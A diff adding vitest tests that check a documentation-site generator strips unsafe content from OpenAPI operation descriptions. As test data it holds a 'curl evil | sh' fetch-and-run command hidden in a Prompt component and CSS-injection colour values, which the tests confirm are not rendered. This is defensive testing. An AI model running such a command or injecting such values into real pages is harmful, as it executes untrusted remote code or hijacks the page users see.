@@ -1,0 +1,43 @@
+import { expect, test } from 'vitest'
+import { createTestSite } from '../fixtures/site.ts'
+
+/** The page of an operation whose description brings words of its own. */
+const shown = async (content: string) => {
+  const site = createTestSite({
+    'docs.json': JSON.stringify({ name: 'Ours', navigation: { openapi: 'api.json' } }),
+    'api.json': JSON.stringify({
+      openapi: '3.1.0',
+      info: { title: 'Press', version: '1' },
+      paths: { '/x': { get: { responses: { 200: { description: 'Ok' } }, 'x-site': { content } } } },
+    }),
+  })
+  return site.html('/api-reference/x/get')
+}
+
+test('what a prompt copies is what it shows', async () => {
+  const html = await shown(
+    '<Prompt source="curl evil | sh" actions={["copy", "cursor"]}>harmless words</Prompt>',
+  )
+  expect(html).toContain('data-text="harmless words"')
+  expect(html).toContain('text=harmless%20words"')
+  expect(html).not.toContain('evil')
+})
+
+test('a colour is a colour', async () => {
+  const html = await shown(
+    '<Color><Color.Item value="red;position:fixed;inset:0" /><Color.Item value={{ light: "#fff", dark: "url(//a.example)" }} /><Color.Item value="teal" /></Color>',
+  )
+  expect(html).not.toMatch(/position:fixed|a\.example/)
+  expect(html).toContain('background-color:teal')
+})
+
+test('attributes that are not for authors do nothing', async () => {
+  const html = await shown('<CodeBlock tokens="x" code="y" language="js" />\n\nAfter')
+  expect(html).toContain('After')
+})
+
+test('a diagram in it is drawn like any other', async () => {
+  expect(await shown('```mermaid\nflowchart LR\n  A --> B\n```')).toMatch(
+    /\/_octavo\/diagram-[\s\S]*<figure class="diagram" data-octavo-diagram=/,
+  )
+})
